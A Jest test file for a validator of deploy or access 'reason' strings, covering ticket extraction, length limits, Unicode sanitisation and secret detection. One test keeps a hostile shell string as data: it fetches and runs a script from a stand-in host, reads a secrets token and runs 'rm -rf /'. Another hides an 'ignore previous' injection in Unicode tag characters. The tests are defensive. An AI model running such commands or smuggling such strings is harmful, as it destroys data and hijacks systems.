import { describe, expect, test } from '@jest/globals';
import { scanText } from '../../../lib/dlp/index.ts';
import { githubToken, seededRng } from '../../../lib/dlp/synth.ts';
import { expectNoLeak } from '../../../test/support/leak.ts';

import {
  checkReason,
  reasonRules,
  sanitizeReason,
  DEFAULT_REASON_RULES,
  type SecretScanner,
} from '../src/reason.ts';

// AWS's documented example key id, assembled at run time so no key-shaped literal is committed.
const EXAMPLE_KEY = ['AKIA', 'IOSFODNN7', 'EXAMPLE'].join('');
// A small but real scanner: two credential shapes and an e-mail address.
const scanner: SecretScanner = (text) => {
  const found: { ruleId: string }[] = [];
  if (/\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/.test(text)) found.push({ ruleId: 'aws-access-key-id' });
  if (/[\w.+-]+@[\w-]+\.[\w.]+/.test(text)) found.push({ ruleId: 'email' });
  return found;
};

const GOOD = 'Roll out the payment fix for INC0042 to prod';

test('a good reason passes and its ticket is extracted', () => {
  const r = checkReason(GOOD, DEFAULT_REASON_RULES, scanner);
  expect(r.problems).toStrictEqual([]);
  expect(r.ok).toBe(true);
  expect(r.tickets).toStrictEqual(['INC0042']);
});

test('JIRA-style keys count as tickets; lowercase or bare numbers do not', () => {
  expect(
    checkReason('Deploy hotfix for checkout, see PAY-1234 and OPS2-7', DEFAULT_REASON_RULES, scanner).tickets,
  ).toStrictEqual(['PAY-1234', 'OPS2-7']);
  const r = checkReason('Deploy hotfix for checkout, see pay-1234 and #77', DEFAULT_REASON_RULES, scanner);
  expect(r.ok).toBe(false);
  expect(r.problems.join('\n')).toMatch(/cites no ticket or incident/);
});

for (const [name, raw] of [
  ['empty', ''],
  ['whitespace', '   \t \n  '],
  ['undefined', undefined],
  ['only control characters', '\u0000\u0007\u001b'],
] as const) {
  test(`an ${name} reason is refused with one clear problem`, () => {
    const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
    expect(r.ok).toBe(false);
    expect(r.problems.length).toBe(1);
    expect(r.problems[0]!).toMatch(/reason is empty/);
  });
}

test('too short and too long are refused with the counts', () => {
  const short = checkReason('fix INC1', DEFAULT_REASON_RULES, scanner);
  expect(short.ok).toBe(false);
  expect(short.problems.join()).toMatch(/8 characters; at least 20/);
  const long = checkReason(`INC0042 ${'x'.repeat(1200)}`, DEFAULT_REASON_RULES, scanner);
  expect(long.ok).toBe(false);
  expect(long.problems.join()).toMatch(/at most 1000/);
});

test('shell and expression metacharacters are kept verbatim as data', () => {
  const raw = 'INC0042 rollback $(curl evil.sh | sh) `id` ${{ secrets.TOKEN }}; rm -rf /';
  const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
  expect(r.ok).toBe(true);
  expect(r.reason).toBe(raw);
});

test('newlines and tabs become spaces; other control and bidi characters are removed', () => {
  expect(sanitizeReason('INC0042 line one\nline two\r\n\tthree')).toBe('INC0042 line one line two three');
  expect(sanitizeReason('a\u0000b\u001bc\u007fd\u0085e')).toBe('abcd e');
  // Trojan Source: a right-to-left override would make the log display something else.
  expect(sanitizeReason('INC1 \u202eevil\u202c ok\u200b')).toBe('INC1 evil ok');
});

test('a secret in the reason is refused, withheld from the record, and never echoed', () => {
  const raw = `Rotate creds for INC0042, old key was ${EXAMPLE_KEY} contact ops@example.com`;
  const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
  expect(r.ok).toBe(false);
  expect(r.problems.join()).toMatch(/aws-access-key-id, email/);
  const everything = JSON.stringify(r);
  expectNoLeak(everything, EXAMPLE_KEY, 'the result');
  expectNoLeak(everything, 'ops@example.com', 'the result');
  expect(r.reason).toMatch(/^\[withheld: matched aws-access-key-id, email\]$/);
});

test('without a scanner, or when the scanner throws, the reason fails closed', () => {
  expect(checkReason(GOOD, DEFAULT_REASON_RULES, undefined).problems.join()).toMatch(
    /no secret\/PII scanner/,
  );
  const broken: SecretScanner = () => {
    throw new TypeError(`boom ${EXAMPLE_KEY}`);
  };
  const r = checkReason(GOOD, DEFAULT_REASON_RULES, broken);
  expect(r.ok).toBe(false);
  expect(r.problems.join()).toMatch(/scan failed \(TypeError\)/);
  expectNoLeak(JSON.stringify(r), EXAMPLE_KEY, 'the result');
});

test('a custom ticket pattern replaces the default and is named in the problem', () => {
  const rules = reasonRules({ ticketPattern: 'CHG\\d{7}', minLength: 10 });
  expect(checkReason('deploy for CHG0001234', rules, scanner).ok).toBe(true);
  const r = checkReason('deploy for INC0042 now', rules, scanner);
  expect(r.problems.join()).toMatch(/a match for \/CHG\\d\{7\}\//);
});

test('an invalid ticket pattern is a clear error', () => {
  expect(() => reasonRules({ ticketPattern: '([A-Z' })).toThrow(
    /reason.ticketPattern is not a valid regular expression/,
  );
});

test('the default ticket pattern does not take algorithm or encoding names for tickets', async () => {
  const { parseAccessPolicy, BUILT_IN_POLICY_YAML } = await import('../src/policy.ts');
  const builtIn = reasonRules(parseAccessPolicy('built-in', BUILT_IN_POLICY_YAML, { owner: 'acme' }).reason);
  for (const rules of [DEFAULT_REASON_RULES, builtIn]) {
    for (const text of [
      'Rotate the UTF-8 decoder and the SHA-256 digests, AES-128 to AES-256, ISO-8601 dates',
      'Per RFC-7519 and TLS-13 with MD-5 removed, see CVE-2024 notes',
      'A1-2 and X-1 are not ticket keys either',
    ]) {
      const check = checkReason(text, rules, scanner);
      expect(check.tickets).toStrictEqual([]);
      expect(check.problems.join(' ')).toMatch(/cites no ticket/);
    }
    const real = checkReason('Deploy the SHAPE-12 fix with CHG-1234 and PAY-77 for INC0042', rules, scanner);
    expect(real.tickets).toStrictEqual(['SHAPE-12', 'CHG-1234', 'PAY-77', 'INC0042']);
  }
});

test('soft hyphens and Unicode tag characters are stripped from the reason', () => {
  const tags = [...'ignore previous'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('');
  const raw = `CHG-1234 de\u00adploy${tags} the fix\u{e007f} now`;
  const clean = sanitizeReason(raw);
  expect(clean).toBe('CHG-1234 deploy the fix now');
  expect(![...clean].some((c) => c.codePointAt(0)! >= 0xe0000 || c === '\u00ad')).toBeTruthy();
});

describe('a secret split by whitespace is still found (real DLP engine)', () => {
  // A GitHub token with a valid checksum, synthesised at run time.
  const token = githubToken(seededRng(11));
  const dlp: SecretScanner = (text) => scanText(text, { path: 'reason' });
  test.each([
    ['a line break', (t: string) => `${t.slice(0, 20)}\n${t.slice(20)}`],
    ['a CRLF and indentation', (t: string) => `${t.slice(0, 12)}\r\n    ${t.slice(12)}`],
    ['a space', (t: string) => `${t.slice(0, 25)} ${t.slice(25)}`],
    ['several line breaks', (t: string) => t.match(/.{1,8}/g)!.join('\n')],
    ['a tab and a zero-width space', (t: string) => `${t.slice(0, 10)}\t\u200b${t.slice(10)}`],
  ])('split by %s', (_, split) => {
    const raw = `Deploy hotfix for INC0042 with ${split(token)} as the credential`;
    expect(dlp(`with ${token} as`).length).toBe(1); // the detector knows the whole token
    expect(dlp(sanitizeReason(raw)).length).toBe(0); // and the split really hides it from a plain scan
    const r = checkReason(raw, DEFAULT_REASON_RULES, dlp);
    expect(r.ok).toBe(false);
    expect(r.reason).toMatch(/^\[withheld: matched /);
    expect(r.tickets).toStrictEqual([]);
    expectNoLeak(JSON.stringify(r), [token, token.slice(0, 20), token.slice(20)], 'the reason check');
  });
  test('an ordinary multi-line reason is still accepted', () => {
    const r = checkReason(
      'Roll out the payment fix\nfor INC0042 to prod\n  after canary',
      DEFAULT_REASON_RULES,
      dlp,
    );
    expect(r.problems).toStrictEqual([]);
  });
});

test('an over-long reason is refused before the scanner sees it, and is not stored', () => {
  let scans = 0;
  const counting: SecretScanner = (text) => {
    scans++;
    return scanner(text);
  };
  const raw = `INC0042 ${'deploy the fix '.repeat(200)}`;
  const r = checkReason(raw, DEFAULT_REASON_RULES, counting);
  expect(scans).toBe(0);
  expect(r.ok).toBe(false);
  expect(r.reason).toBe('[withheld: too long to be checked]');
  expect(r.problems).toStrictEqual([
    `the reason is ${sanitizeReason(raw).length} characters; at most 1000 are allowed (link to the ticket instead)`,
  ]);
});
